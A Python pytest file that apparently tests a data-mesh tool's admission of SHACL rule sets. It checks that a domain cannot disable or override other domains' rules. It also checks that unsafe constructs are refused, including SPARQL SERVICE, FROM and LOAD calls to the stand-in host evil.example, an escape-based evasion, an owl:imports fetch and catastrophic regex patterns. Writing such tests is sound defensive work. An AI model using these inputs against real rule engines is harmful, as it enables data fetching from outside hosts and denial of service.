"""A domain may tighten for its own, and no rule set that does more to anybody is admitted.

Each attack is handed in with a sound set by a domain's owner, and by the same way as any other.
"""

from collections.abc import Iterator

import pytest

from isogloss.model.admission import Finding
from isogloss.model.change import Committed, Refused
from isogloss.model.rdf import Iri
from isogloss.model.rules import NotAdmitted
from tests.security.rule_sets import SHIPPED, adopt, draft, judges_as_before, say, sound, withdraw
from tests.security.world import SPACES, World, dataset, found

MINE, THEIRS = SPACES["sales"], SPACES["shop"]
THEIR_RULES = sound(THEIRS, id="shop-title")
QUERY = "ex:Title sh:sparql [ sh:select '''{}''' ] ."

ATTACKS = {
    # statements about what is another's
    "switch a rule off that binds all": (
        "rule:Dataset-title sh:deactivated true .",
        "FOREIGN_SUBJECT",
        "rule:Dataset-title",
        "waiver",
    ),
    "switch another domain's rule off": (
        "shop:Title sh:deactivated true .",
        "FOREIGN_SUBJECT",
        "shop:Title",
        "waiver",
    ),
    "break a rule by a second sh:minCount": (
        "rule:Dataset-title sh:minCount 0 .",
        "FOREIGN_SUBJECT",
        "rule:Dataset-title",
        "shape of your own",
    ),
    "break a rule by a second sh:path": (
        "shop:Title sh:path dcterms:description .",
        "FOREIGN_SUBJECT",
        "shop:Title",
        "refer to anything",
    ),
    "aim a rule at a rival": (
        "rule:DatasetShape sh:targetNode shop:dataset\\/orders .",
        "FOREIGN_SUBJECT",
        "rule:DatasetShape",
        "shape of your own",
    ),
    "define a rule anew": (
        "rule:Dataset-title a sh:PropertyShape ; sh:path dcterms:title ; sh:minCount 0 ; "
        'sh:severity sh:Info ; sh:message "Never mind." ; mesh:ruleId "dataset-title" .',
        "FOREIGN_SUBJECT",
        "rule:Dataset-title",
        "shape of your own",
    ),
    "take a rule's name for reports": (
        'ex:Title mesh:ruleId "dataset-title" .',
        "RULE_ID_TAKEN",
        "ex:Title",
        "choose another",
    ),
    "reach into a rule by a blank node": (
        "rule:DatasetShape sh:property [ sh:path dcterms:title ; sh:maxCount 0 ] .",
        "FOREIGN_SUBJECT",
        "rule:DatasetShape",
        "shape of your own",
    ),
    "rule from a blank node": (
        "[] a sh:NodeShape ; sh:targetClass dcat:Dataset ; sh:property ex:Title .",
        "ASTRAY",
        "nameless node",
        MINE,
    ),
    "make a shape of a class that all use": (
        "dcat:Dataset a sh:NodeShape , rdfs:Class ; sh:property ex:Title .",
        "FOREIGN_SUBJECT",
        "dcat:Dataset",
        "sh:targetClass dcat:Dataset",
    ),
    "target a rival's dataset": (
        "ex:Set sh:targetNode shop:dataset\\/orders .",
        "FOREIGN_TARGET",
        "ex:Set",
        "target what begins with",
    ),
    "hold a rival's shape": (
        "ex:Set sh:property shop:Title .",
        "UNDEFINED_SHAPE",
        "shop:Title",
        "define it here",
    ),
    "fetch rules from elsewhere": (
        "ex:Rules owl:imports <https://evil.example/rules> .",
        "IMPORTS",
        "ex:Rules",
        "hand",
    ),
    # what SHACL passes over in silence
    "slip in a term of SHACL": ("ex:Title sh:minCoutn 1 .", "UNKNOWN_TERM", "ex:Title", "minCount"),
    "write a class like a property": (
        "ex:Title sh:Class dcat:Dataset .",
        "UNKNOWN_TERM",
        "ex:Title",
        "sh:class",
    ),
    "slip in a term of DCAT": (
        "ex:Set sh:targetClass dcat:DataSet .",
        "UNKNOWN_TERM",
        "ex:Set",
        "dcat:Dataset",
    ),
    "invent a severity": (
        "ex:Title sh:severity ex:Advisory .",
        "UNKNOWN_SEVERITY",
        "ex:Title",
        "sh:Warning",
    ),
    "have two severities": (
        "ex:Title sh:severity sh:Info .",
        "CONTRADICTING_SEVERITIES",
        "ex:Title",
        "keep one",
    ),
    "target by a query": (
        "ex:Set sh:target [ a sh:SPARQLTarget ; sh:select 'SELECT ?this { ?this ?p ?o }' ] .",
        "NOT_RUN",
        "ex:Set",
        "sh:targetClass",
    ),
    "write triples by a rule": (
        "ex:Set sh:rule [ a sh:SPARQLRule ] .",
        "NOT_RUN",
        "ex:Set",
        "Core",
    ),
    "compute": ("ex:Title sh:expression [ sh:path dcterms:type ] .", "NOT_RUN", "ex:Title", "Core"),
    "run a program": ("ex:Title sh:js [ a sh:JSConstraint ] .", "NOT_RUN", "ex:Title", "Core"),
    "infer": ("ex:Rules sh:entailment <http://www.w3.org/ns/entailment/RDFS> .", "NOT_RUN", "", ""),
    "ask what has no end": (
        "ex:Title sh:node [ sh:property ex:Title ] .",
        "RECURSION",
        "ex:Title",
        "take one",
    ),
    "compare with no datatype": (
        "ex:Title sh:datatype rdfs:Resource .",
        "NEVER_MATCHES",
        "ex:Title",
        "sh:nodeKind",
    ),
    # queries
    "ask another server": (
        QUERY.format("SELECT $this { SERVICE <https://evil.example/> { $this ?p ?o } }"),
        "SERVICE",
        "ex:Title",
        "take it out",
    ),
    "ask another server by an escape": (
        QUERY.format("SELECT $this { \\\\u0053ERVICE <https://evil.example/> { $this ?p ?o } }"),
        "QUERY_TOO_LARGE",
        "ex:Title",
        "write the characters themselves",
    ),
    "fetch data": (
        QUERY.format("SELECT $this FROM <https://evil.example/> { $this ?p ?o }"),
        "FROM",
        "ex:Title",
        "take it out",
    ),
    "load data": (
        QUERY.format("LOAD <https://evil.example/>"),
        "NO_SELECT",
        "ex:Title",
        "write a SELECT",
    ),
    "look into one graph": (
        QUERY.format("SELECT $this { GRAPH ?g { $this ?p ?o } }"),
        "GRAPH",
        "ex:Title",
        "without it",
    ),
    "read the shapes": (
        QUERY.format("SELECT $this { $this ?p $shapesGraph }"),
        "NOT_BOUND",
        "ex:Title",
        "do without",
    ),
    "report on somebody else": (
        QUERY.format("SELECT (?other AS $this) { ?other a ?class }"),
        "ASSIGNED",
        "ex:Title",
        "name it otherwise",
    ),
    "use a prefix that nobody declares": (
        QUERY.format("SELECT $this { $this nobody:knows ?o }"),
        "UNDECLARED_PREFIX",
        "ex:Title",
        "PREFIX",
    ),
    # patterns
    "look around": (
        'ex:Title sh:pattern "^(?!x)" .',
        "BAD_PATTERN",
        "ex:Title",
        "sh:not",
    ),
    "refer back": (r'ex:Title sh:pattern "(a+)+\\1$" .', "BAD_PATTERN", "ex:Title", "refers back"),
    "repeat without measure": (
        'ex:Title sh:pattern "((((a{1000}){1000}){1000}){1000})" .',
        "BAD_PATTERN",
        "ex:Title",
        "",
    ),
    "say nothing in the message": (
        "ex:Title sh:property ex:Mute . ex:Mute a sh:PropertyShape ; sh:path dcterms:type ; "
        'sh:message " " ; sh:maxCount 3 .',
        "NO_MESSAGE",
        "ex:Mute",
        "say in one sentence",
    ),
}


def names(finding: Finding, shape: str) -> bool:
    """Tell whether a finding says which shape it is about."""
    return shape in finding.message or finding.shape == shape.replace("ex:", MINE)


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    """A mesh in which a rival of the attacker has a rule of its own."""
    world = found()
    adopt(world.services, "shop", THEIR_RULES)
    yield world
    world.services.close()


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_set_is_not_admitted_that_would(world: World, attack: str) -> None:
    text, code, shape, fix = ATTACKS[attack]
    base, before = sound(MINE), world.quads()

    answer = draft(world.services, "sales", base + text)

    assert isinstance(answer, NotAdmitted)
    told = [f for f in answer.findings if f.code == code and f.blocking]
    assert told, answer.findings
    # Where it is written, or within the shape to which it adds.
    first, last = (text.count("\n") + 1 for text in (base[: base.index("ex:Title a ")], base))
    lines = range(first, last + 1)
    assert {(finding.file, finding.line in lines) for finding in told} == {("own.ttl", True)}
    assert any(names(finding, shape) and fix in finding.message for finding in told), told
    assert world.quads() == before
    assert not world.services.rules.versions("sales")


@pytest.mark.parametrize("domain", ["sales", "shop", "emea"])
def test_after_all_that_the_rules_judge_as_before(world: World, domain: str) -> None:
    for text, _, _, _ in ATTACKS.values():
        draft(world.services, "sales", sound(MINE) + text)

    judges_as_before(world, domain)
    theirs = say(world.services, "shop", dataset(f"{THEIRS}dataset/probe", "no"))
    assert isinstance(theirs, Refused)
    assert [v.rule for v in theirs.violations] == [Iri(f"{THEIRS}Title")]


def test_a_sound_set_tightens_for_its_domain_and_for_nobody_else(world: World) -> None:
    id = adopt(world.services, "sales", sound(MINE))
    try:
        assert isinstance(say(world.services, "sales", dataset(f"{MINE}dataset/d", "no")), Refused)
        for other in ("emea", "sales-old", "books"):
            judges_as_before(world, other)
            short = say(world.services, other, dataset(f"{SPACES[other]}dataset/d", "no"))
            assert isinstance(short, Committed)
            assert {remark.owner for remark in short.remarks} == {None}
            say(world.services, other, frozenset())
        judges_as_before(world, "sales")
    finally:
        withdraw(world.services, id, "sales")
    assert isinstance(say(world.services, "sales", dataset(f"{MINE}dataset/d", "no")), Committed)
    say(world.services, "sales", frozenset())


def test_no_set_takes_the_name_of_the_rules_that_bind_all(world: World) -> None:
    id = adopt(world.services, "sales", sound(MINE), name="isogloss")
    try:
        judges_as_before(world, "shop")
        judges_as_before(world, "sales")
        assert any(rule.id.startswith(SHIPPED) for rule in world.services.governance.rules)
    finally:
        withdraw(world.services, id, "sales")
